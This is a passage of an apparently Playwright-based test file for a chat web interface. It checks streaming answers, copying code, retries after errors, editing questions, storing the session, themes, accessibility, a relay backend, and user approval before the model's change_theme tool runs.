    // What is longer than 10,000 characters stays plain, and a name that objects have is no language.
    await ask('Long');
    await answers.nth(2).locator('figure').nth(1).waitFor();
    await button(page, 'Regenerate').waitFor();
    await drawn(page);
    assert.equal(await answers.nth(2).locator('code span').count(), 0);
  },
);

const [thinking, thought] = [gate(), gate()];
await test(
  'thinking is timed, counting while it lasts, moves nothing, and is not read aloud',
  {
    answers: [
      {
        content: pieces(
          { reasoning: 'Hm' },
          thinking.opened,
          { reasoning: ', well' },
          thought.opened,
          'So it is.',
        ),
      },
    ],
    prepare: (page) => page.clock.install(),
  },
  async ({ page, ask, answers }) => {
    const said = await listen(page);
    await ask('Hi');
    const summary = page.locator('summary');
    await textIs(summary, 'Thinking( for 1 s)?');
    const height = () => summary.evaluate((element) => element.getBoundingClientRect().height);
    const before = await height();
    await page.clock.pauseAt(await page.evaluate(() => Date.now() + 1_000));
    await page.clock.runFor(100);
    const first = parseInt(/\d+/.exec(await summary.innerText())?.[0] ?? '', 10);
    await page.clock.runFor(5_000);
    await textIs(summary, `Thinking for ${first + 5} s`);
    assert.equal(await height(), before);
    thinking.open();
    thought.open();
    await page.clock.resume();
    await answers.getByText('So it is.').waitFor();
    await textIs(summary, `Thought for ${first + 5} s`);
    assert.equal(await height(), before);
    await button(page, 'Regenerate').waitFor();
    await eventually(said, ['Answering.', 'Answer: So it is.']);
  },
);

await test(
  'the button that copies a long block of code stays in reach',
  { answers: [{ content: `\`\`\`ts\n${'let a = 1;\n'.repeat(200)}\`\`\`` }] },
  async ({ page, ask, answers }) => {
    await ask('Code');
    await button(page, 'Regenerate').waitFor();
    const main = page.locator('main');
    await main.evaluate((element) => (element.scrollTop = 1_500));
    await until(page, () => document.querySelector('main').scrollTop === 1_500);
    await drawn(page);
    const [top, caption] = await main.evaluate((element) => [
      element.getBoundingClientRect().top,
      element.querySelector('figcaption').getBoundingClientRect().top,
    ]);
    assert.equal(caption, top);
    await answers.locator('figcaption').getByRole('button').click();
  },
);

await test(
  'where copying is refused, the old way is taken; and where that fails too, it says so',
  {
    answers: [{ content: 'Text.\n\n```ts\nlet a;\n```' }],
    context: { permissions: [] },
    prepare: (page) =>
      page.addInitScript(() => {
        window.copied = [];
        Object.defineProperty(navigator, 'clipboard', { value: undefined });
        document.execCommand = () => {
          if (window.refuses) return false;
          window.copied.push(document.activeElement.value);
          return true;
        };
      }),
  },
  async ({ page, ask, answers }) => {
    await ask('Code');
    await button(page, 'Regenerate').waitFor();
    const code = answers.locator('figcaption').getByRole('button');
    await code.click();
    await answers.locator('figcaption').getByText('Copied', { exact: true }).waitFor();
    await answers.locator('footer').getByRole('button', { name: 'Copy' }).click();
    await answers.locator('footer').getByText('Copied', { exact: true }).waitFor();
    assert.deepEqual(await page.evaluate(() => window.copied), ['let a;\n', 'Text.\n\n```ts\nlet a;\n```']);
    await page.evaluate(() => (window.refuses = true));
    await code.click();
    await answers.locator('figcaption').getByText('Not copied').waitFor();
    assert.equal(await page.evaluate(() => getSelection().toString().trim()), 'let a;');
  },
);

await test(
  'text fades above the composer, and is not cut',
  { answers: [{ content: 'Line\n\n'.repeat(60) }] },
  async ({ page, ask }) => {
    await ask('Hi');
    await button(page, 'Regenerate').waitFor();
    const { height, image } = await page.locator('.bottom').evaluate((bottom) => {
      const { height, backgroundImage: image } = getComputedStyle(bottom, '::before');
      return { height: parseFloat(height), image };
    });
    assert.ok(height > 16 && image.startsWith('linear-gradient'), `${height} ${image}`);
  },
);

await test(
  'two failures in a row are two cards, and the last question can be tried again',
  { answers: [{ status: 401 }, { status: 400 }, { content: 'Here.' }] },
  async ({ page, ask, answers, asked }) => {
    await ask('First');
    await answers.nth(0).getByText("You don't have access to this model").waitFor();
    await ask('Second');
    await answers.nth(1).getByText('The model refused the question').waitFor();
    await answers.nth(1).getByRole('button', { name: 'Try again' }).click();
    await answers.nth(1).getByText('Here.').waitFor();
    await answers.nth(0).getByText("You don't have access to this model").waitFor();
    assert.equal(asked()[2].body.messages.at(-1).content, 'Second');
  },
);

await test(
  'trying again under an older failure asks that question again, and drops what followed it',
  { answers: [{ status: 401 }, { content: 'Second answer.' }, { content: 'First answer.' }] },
  async ({ page, ask, answers, asked }) => {
    await ask('First');
    await answers.nth(0).getByText("You don't have access to this model").waitFor();
    await ask('Second');
    await answers.nth(1).getByText('Second answer.').waitFor();
    await answers.nth(0).getByRole('button', { name: 'Try again' }).click();
    await answers.nth(0).getByText('First answer.').waitFor();
    assert.equal(asked()[2].body.messages.at(-1).content, 'First');
    assert.equal(await answers.count(), 1);
    assert.equal(await focused(page), 'question');
  },
);

await test(
  'a question is edited where it stands, and asked; what followed it is dropped',
  { answers: [{ content: 'One.' }, { content: 'Two.' }, { content: 'Three.' }] },
  async ({ page, ask, answers, asked }) => {
    await ask('First');
    await answers.nth(0).getByText('One.').waitFor();
    await ask('Second');
    await answers.nth(1).getByText('Two.').waitFor();
    await button(page, 'Regenerate').waitFor();
    const edit = button(page, 'Edit the question').first();
    const opacity = () => edit.evaluate((element) => getComputedStyle(element).opacity);
    await page.mouse.move(0, 0);
    assert.equal(await opacity(), '0');
    await page.locator('.question').first().hover();
    assert.equal(await opacity(), '1');
    await edit.click();
    const editor = page.getByRole('textbox', { name: 'Edit the question' });
    assert.equal(await editor.inputValue(), 'First');
    await eventually(() => focused(page), 'Edit the question');
    await editor.fill('  ');
    await editor.press('Enter');
    assert.equal(await button(page, 'Save').getAttribute('aria-disabled'), 'true');
    assert.equal(asked().length, 2);
    await editor.fill(' First,\nbetter ');
    await button(page, 'Save').click();
    await answers.nth(0).getByText('Three.').waitFor();
    assert.equal(await answers.count(), 1);
    assert.equal(
      await page.locator('.question').evaluate(({ textContent }) => textContent),
      'You asked: First,\nbetter',
    );
    assert.deepEqual(
      asked()[2].body.messages.map(({ role, content }) => [role, content]),
      [
        ['system', 'Answer shortly, in Markdown.'],
        ['user', 'First,\nbetter'],
      ],
    );
    assert.equal(await focused(page), 'question');
  },
);

await test(
  'editing by keyboard: Tab reaches the button, Esc cancels and stops no answer, Enter asks',
  { answers: [{ content: ['Hel', { wait: Infinity }] }, { content: 'Hello.' }] },
  async ({ page, ask, answers, asked, provider }) => {
    await ask('First');
    await textIs(answers.locator('p').first(), 'Hel');
    await button(page, 'Theme: system').focus();
    for (let presses = 0; (await focused(page)) !== 'Edit the question'; presses += 1) {
      assert.ok(presses < 5, 'Tab does not reach the button');
      await page.keyboard.press('Tab');
    }
    const shown = await page.evaluate(() => getComputedStyle(document.activeElement).opacity);
    assert.equal(shown, '1');
    await page.keyboard.press('Enter');
    const editor = page.getByRole('textbox', { name: 'Edit the question' });
    await editor.waitFor();
    await eventually(() => page.evaluate(() => document.activeElement.localName), 'textarea');
    await page.keyboard.type(' draft');
    await page.keyboard.press('Escape');
    await editor.waitFor({ state: 'detached' });
    await eventually(() => page.evaluate(() => document.activeElement.localName), 'button');
    assert.equal(await focused(page), 'Edit the question');
    assert.equal(provider.aborted, 0);
    await page.keyboard.press('Enter');
    await editor.waitFor();
    assert.equal(await editor.inputValue(), 'First');
    await eventually(() => page.evaluate(() => document.activeElement.localName), 'textarea');
    await page.keyboard.type(' again');
    await page.keyboard.press('Enter');
    await textIs(answers.locator('p').first(), 'Hello\\.');
    await provider.whenAborted();
    assert.equal(asked()[1].body.messages.at(-1).content, 'First again');
  },
);

for (const connection of ['fetch', 'http-client']) {
  await test(
    `a reload shows the conversation and its name again, and asks nobody; a new chat forgets it (${connection})`,
    {
      settings: { 'chat-connection': connection },
      answers: [
        { content: [{ toolCall: { name: 'local_time', arguments: { time_zone: 'Asia/Tokyo' } } }] },
        { content: 'It is **late**.' },
        { status: 401 },
        { content: ['Half an ', 'answer', { wait: Infinity }] },
        { content: 'After all.' },
      ],
    },
    async ({ page, ask, answers, asked, provider }) => {
      await ask('What time is it?');
      await textIs(answers.locator('strong'), 'late');
      await page.getByRole('heading', { level: 1, name: 'A name for it' }).waitFor();
      await button(page, 'Regenerate').waitFor();
      await ask('And this?');
      await page.getByText("You don't have access to this model").first().waitFor();
      await ask('And that?');
      await textIs(answers.nth(2).locator('p').first(), 'Half an answer');
      const output = await page.locator('.output .text').innerText();
      const before = provider.requests.length;
      await page.reload();
      await page.getByRole('heading', { level: 1, name: 'A name for it' }).waitFor();
      await textIs(answers.locator('strong'), 'late');
      assert.equal(await page.locator('.output .text').innerText(), output);
      await answers.nth(1).getByText("You don't have access to this model").waitFor();
      await textIs(answers.nth(2).locator('p').first(), 'Half an answer');
      assert.equal(await page.locator('article[aria-busy=true]').count(), 0);
      assert.equal(provider.requests.length, before);
      await answers.nth(1).getByRole('button', { name: 'Try again' }).click();
      await answers.nth(1).getByText('After all.').waitFor();
      assert.deepEqual(
        asked()
          .at(-1)
          .body.messages.slice(1)
          .map(({ role, content, tool_calls: calls }) => [role, calls?.[0].function.name ?? content]),
        [
          ['user', 'What time is it?'],
          ['assistant', 'local_time'],
          ['tool', output],
          ['assistant', 'It is **late**.'],
          ['user', 'And this?'],
        ],
      );
      await button(page, 'Regenerate').waitFor();
      await button(page, 'New chat').click();
      await page.getByText('What would you like to know?').waitFor();
      await page.reload();
      await page.getByText('What would you like to know?').waitFor();
      assert.equal(await page.evaluate(() => sessionStorage.length), 0);
    },
  );
}

await test(
  'the conversation is stored when something has ended or begun, not with each frame',
  {
    answers: [{ content: Array.from({ length: 100 }, (_, index) => `w${index} `) }],
    pace: 10,
    prepare: (page) =>
      page.addInitScript(() => {
        window.stored = 0;
        const { setItem } = Storage.prototype;
        Storage.prototype.setItem = function (name, value) {
          if (this === sessionStorage) window.stored += 1;
          setItem.call(this, name, value);
        };
      }),
  },
  async ({ page, ask }) => {
    await ask('Count');
    await button(page, 'Regenerate').waitFor();
    await page.getByRole('heading', { level: 1, name: 'A name for it' }).waitFor();
    const stored = await page.evaluate(() => window.stored);
    assert.ok(stored > 0 && stored < 10, `stored ${stored} times`);
  },
);

for (const [what, prepare] of Object.entries({
  'a storage that is forbidden': () =>
    Object.defineProperty(window, 'sessionStorage', {
      get() {
        throw new DOMException('Forbidden.', 'SecurityError');
      },
    }),
  'a storage that is full': () => {
    Storage.prototype.setItem = () => {
      throw new DOMException('Full.', 'QuotaExceededError');
    };
  },
  'what is stored, where it is not JSON,': () => sessionStorage.setItem('chat', '{"messages":[{'),
  'what is stored, where it is no conversation,': () =>
    sessionStorage.setItem('chat', '{"messages":[{"id":"1","role":"assistant","state":{}}]}'),
})) {
  await test(
    `${what} gives an empty chat that works`,
    { answers: [{ content: 'Here.' }], prepare: (page) => page.addInitScript(prepare) },
    async ({ page, ask, answers }) => {
      await page.getByText('What would you like to know?').waitFor();
      await ask('Hi');
      await answers.getByText('Here.').waitFor();
      await button(page, 'Regenerate').waitFor();
    },
  );
}

const themeCall = { content: [{ toolCall: { name: 'change_theme', arguments: { theme: 'dark' } } }] };
const themeOf = (page) => page.evaluate(() => document.documentElement.dataset.theme);

await test(
  'a tool that needs approval asks, is announced, and runs once it is allowed',
  { answers: [themeCall, { content: 'It is dark.' }] },
  async ({ page, ask, answers, asked }) => {
    const said = await listen(page);
    await ask('Make it dark');
    const card = page.getByRole('region', { name: 'Tool change_theme' });
    await card.getByText('Waiting for you').waitFor();
    assert.equal(await themeOf(page), 'system');
    assert.equal(asked().length, 1);
    const group = card.getByRole('group', { name: 'May the model use change_theme?' });
    await group.getByRole('button', { name: 'Allow', exact: true }).click();
    await answers.getByText('It is dark.').waitFor();
    assert.equal(await themeOf(page), 'dark');
    assert.equal(await card.locator('.state').innerText(), 'Done');
    assert.equal(await group.count(), 0);
    assert.match(asked()[1].body.messages.at(-1).content, /dark/);
    assert.equal(await focused(page), 'question');
    await button(page, 'Regenerate').waitFor();
    await eventually(said, [
      'Answering.',
      'The model wants to use change_theme. It waits for your decision.',
      'Answer: It is dark.',
    ]);
  },
);

await test(
  'a tool that is not allowed does not run, by keyboard, and the model is told',
  { answers: [themeCall, { content: 'As you wish.' }] },
  async ({ page, ask, answers, asked }) => {
    await ask('Make it dark');
    const card = page.getByRole('region', { name: 'Tool change_theme' });
    await card.getByText('Waiting for you').waitFor();
    const label = () => page.evaluate(() => document.activeElement.textContent.trim());
    for (let presses = 0; (await label()) !== "Don't allow"; presses += 1) {
      assert.ok(presses < 10, 'Shift+Tab does not reach the button');
      await page.keyboard.press('Shift+Tab');
    }
    await page.keyboard.press('Enter');
    await answers.getByText('As you wish.').waitFor();
    assert.equal(await themeOf(page), 'system');
    assert.equal(await card.locator('.state').innerText(), 'Not allowed');
    assert.match(asked()[1].body.messages.at(-1).content, /rejected/);
    assert.equal(await focused(page), 'question');
  },
);

await test(
  'a stop while a tool waits for approval ends the answer, and nothing runs',
  { answers: [themeCall, { content: 'Something else.' }] },
  async ({ page, ask, answers, asked }) => {
    await ask('Make it dark');
    const card = page.getByRole('region', { name: 'Tool change_theme' });
    await card.getByText('Waiting for you').waitFor();
    await page.keyboard.press('Escape');
    await page.getByText('You stopped this answer.').waitFor();
    assert.equal(await card.locator('.state').innerText(), 'Not run');
    assert.equal(await card.getByRole('button').count(), 0);
    assert.equal(await themeOf(page), 'system');
    await ask('And now?');
    await answers.getByText('Something else.').waitFor();
    assert.match(asked()[1].body.messages.at(-2).content, /cancelled/);
  },
);

if (only === undefined || 'small chat'.includes(only)) {
  const half = gate();
  const provider = await startMockProvider({
    cors: true,
    pace: 0,
    answers: [
      { content: pieces('Hel', half.opened, 'lo') },
      { content: ['Half', { wait: Infinity }] },
      { status: 401 },
    ],
  });
  await check(
    'the small chat: a question, text as it comes, a stop that reaches the provider, an error',
    async () => {
      const page = await chromium.browser.newPage();
      const problems = [];
      page.on('pageerror', (error) => problems.push(String(error)));
      await page.goto(server.address({ 'chat-base-url': provider.baseUrl, 'chat-view': 'small' }));
      const question = page.getByRole('textbox', { name: 'Question' });
      const ask = async (text) => {
        await question.fill(text);
        await question.press('Enter');
      };
      const answers = page.locator('p.assistant');
      await ask('Hi');
      await textIs(answers, 'Hel');
      assert.equal(await page.locator('p.user').innerText(), 'Hi');
      assert.equal(await question.inputValue(), '');
      half.open();
      await textIs(answers, 'Hello');
      await eventually(() => button(page, 'Stop').isDisabled(), true);
      await ask('More');
      await textIs(answers.nth(1), 'Half');
      await button(page, 'Stop').click();
      await provider.whenAborted();
      assert.equal(await answers.nth(1).innerText(), 'Half');
      await ask('And?');
      await page.getByRole('alert').getByText('401').waitFor();
      assert.deepEqual(
        provider.requests.map(({ body }) => body.messages.at(-1).content),
        ['Hi', 'More', 'And?'],
      );
      assert.deepEqual(problems, []);
      mkdirSync(new URL('screenshots/', import.meta.url), { recursive: true });
      await page.screenshot({
        path: fileURLToPath(new URL('screenshots/light-18-small.png', import.meta.url)),
      });
      await page.close();
    },
  );
  await provider.close();
}

await test(
  'copying takes the code as it was written',
  {
    answers: [{ content: '```ts\nconst a = 1 < 2;\n```' }],
    context: { permissions: ['clipboard-read', 'clipboard-write'] },
  },
  async ({ page, ask }) => {
    await ask('Code');
    await button(page, 'Regenerate').waitFor();
    await page.locator('figcaption').getByRole('button').click();
    await page.locator('figcaption').getByText('Copied').waitFor();
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), 'const a = 1 < 2;\n');
  },
);

await test(
  'colours follow the system until a reader chooses, and the choice stays',
  { context: { colorScheme: 'dark' } },
  async ({ page }) => {
    const background = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
    const dark = await background();
    await button(page, 'Theme: system').click();
    await until(page, (before) => getComputedStyle(document.body).backgroundColor !== before, dark);
    const light = await background();
    await page.reload();
    await button(page, 'Theme: light').waitFor();
    await eventually(background, light);
    await page.emulateMedia({ colorScheme: 'light' });
    await button(page, 'Theme: light').click();
    await until(page, (before) => getComputedStyle(document.body).backgroundColor === before, dark);
  },
);

await test(
  'nothing moves where a reader asks for less motion',
  { answers: [{ content: ['Hel', { wait: Infinity }] }], context: { reducedMotion: 'reduce' } },
  async ({ page, ask, answers }) => {
    await ask('Hi');
    await textIs(answers.locator('p').first(), 'Hel');
    assert.equal(await page.evaluate(() => document.getAnimations().length), 0);
  },
);

// A backend that has the key, and speaks the library's own protocol to its front end.
if (only === undefined || 'backend'.includes(only)) {
  const upstream = await startMockProvider({ pace: 0 });
  const backend = await startStaticServer({
    handle(request, response) {
      if (request.url !== '/api/chat') return false;
      let text = '';
      request.on('data', (chunk) => (text += chunk));
      request.on('end', () => {
        const options = {
          model: 'mock',
          provider: { name: 'mock', baseUrl: upstream.baseUrl, apiKey: 'sk-of-the-backend' },
        };
        response.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-store' });
        const writing = streamChatCompletions(JSON.parse(text).prompt, options)
          .pipe(toServerSentEvents(), encodeEventStream())
          .subscribe({ next: (written) => response.write(written), complete: () => response.end() });
        response.on('close', () => writing.unsubscribe());
      });
      return true;
    },
  });
  await check(
    'over a backend with fromServerSentEvents(): an answer, a stop that reaches the provider, an error',
    async () => {
      const { page, ask, answers, close, problems } = await openChat(chromium.browser, backend, {
        settings: { 'chat-connection': 'backend' },
        prepare: (opened) => opened.route('**/v1/**', (route) => route.abort()),
      });
      try {
        upstream.enqueue(
          { content: ['Hel', { wait: Infinity }] },
          { content: 'From the backend.' },
          {},
          { status: 401 },
        );
        await ask('Hi');
        await textIs(answers.locator('p').first(), 'Hel');
        await page.keyboard.press('Escape');
        await upstream.whenAborted();
        await button(page, 'Regenerate').click();
        await textIs(answers.locator('p').first(), 'From the backend\\.');
        await upstream.whenRequested(3);
        await upstream.whenIdle();
        await ask('Again');
        await page.getByText("You don't have access to this model").first().waitFor();
        assert.equal(upstream.requests[0].headers.authorization, 'Bearer sk-of-the-backend');
        assert.deepEqual(problems, []);
      } finally {
        await close();
        await backend.close();
        await upstream.close();
      }
    },
  );
}

const folder = fileURLToPath(new URL('screenshots/', import.meta.url));
mkdirSync(folder, { recursive: true });
for (const [scheme, width, height] of [
  ['light', 1100, 800],
  ['dark', 1100, 800],
  ['light', 390, 844],
]) {
  const name = width < 500 ? 'narrow' : scheme;
  const shot = (page, state) => page.screenshot({ path: `${folder}${name}-${state}.png` });
  const context = { viewport: { width, height }, colorScheme: scheme, deviceScaleFactor: 1.5 };
  const questions = [
    'What time is it in Tokyo?',
    'Show me a debounce in TypeScript',
    'Compare tea and coffee in a table',
  ];
  const cut = gate();
  await test(
    `every state fits the page, and is there to be looked at (${name})`,
    {
      context,
      name: demoAnswer,
      answers: [
        ...[demoAnswer, demoAnswer, demoAnswer, demoAnswer],
        { status: 429, retryAfter: { wait: 60_000 } },
        {
          content: pieces(
            'The sky is blue because air scatters short waves of light far more than ',
            cut.opened,
            { cut: 'reset' },
          ),
        },
        { content: ['The sky is blue because air scatters short waves ', { wait: Infinity }] },
      ],
    },
    async ({ page, ask }) => {
      const fits = () => page.evaluate(() => document.documentElement.scrollWidth <= innerWidth);
      await shot(page, '1-welcome');
      for (const [index, asking] of questions.entries()) {
        await ask(asking);
        await page.locator('article').nth(index).locator('footer').waitFor();
        assert.ok(await fits());
        await until(page, () => {
          const main = document.querySelector('main');
          return main.scrollHeight - main.scrollTop - main.clientHeight < 2;
        });
        if (index === 0) {
          await page.locator('summary').click();
          await page.locator('main').evaluate((main) => (main.scrollTop = 0));
        }
        await shot(page, `${index + 2}-${['tool', 'code', 'table'][index]}`);
      }
      await ask('Why is the sky blue?');
      await page.getByRole('timer').waitFor();
      await shot(page, '5-retry');
      await page.keyboard.press('Escape');
      await button(page, 'Regenerate').click();
      await page.getByText('scatters short waves').waitFor();
      cut.open();
      await button(page, 'Try again').waitFor();
      assert.ok(await fits());
      await shot(page, '6-error');
      await button(page, 'Try again').click();
      await page.getByText('scatters short waves').waitFor();
      await shot(page, '7-streaming');
      await page.keyboard.press('Escape');
      await page.getByText('You stopped this answer.').waitFor();
      await shot(page, '8-stopped');
    },
  );
  await test(
    `hard cases fit the page, and are there to be looked at (${name})`,
    {
      context,
      name: demoAnswer,
      answers: [
        ...[demoAnswer, demoAnswer, demoAnswer, demoAnswer],
        ...[{ status: 401 }, { status: 400 }],
        ...[demoAnswer, demoAnswer, demoAnswer, demoAnswer],
      ],
    },
    async ({ page, ask }) => {
      const asking = async (what, end, state) => {
        await ask(what);
        await page.locator('article').last().locator(end).waitFor();
        assert.deepEqual(await overflow(page), [false]);
        await drawn(page);
        await shot(page, state);
      };
      await asking(longQuestion, 'footer', '9-long-question');
      await asking('Show me a wide table', 'footer', '10-wide-table');
      await asking('لماذا السماء زرقاء؟', 'footer', '11-arabic');
      await asking('天空为什么是蓝色的？', 'footer', '12-chinese');
      await asking('May I ask?', '.error', '13-failure');
      await asking('And this?', '.error', '14-two-failures');
      await page.locator('.question').last().hover();
      await shot(page, '15-editable');
      await button(page, 'Edit the question').last().click();
      await page.getByRole('textbox', { name: 'Edit the question' }).waitFor();
      await shot(page, '15-editing');
      await button(page, 'Cancel').click();
      await asking('Make the page dark', '.decision', '16-approval');
      await button(page, "Don't allow").click();
      await page.locator('article').last().locator('footer').waitFor();
      await drawn(page);
      await shot(page, '17-not-allowed');
      await asking('Make it dark after all', '.decision', '17-approval-again');
      await button(page, 'Allow').click();
      await page.locator('article').last().locator('footer').waitFor();
      await drawn(page);
      await shot(page, '17-allowed');
    },
  );
}

await chromium.close();
await server.close();
finish();
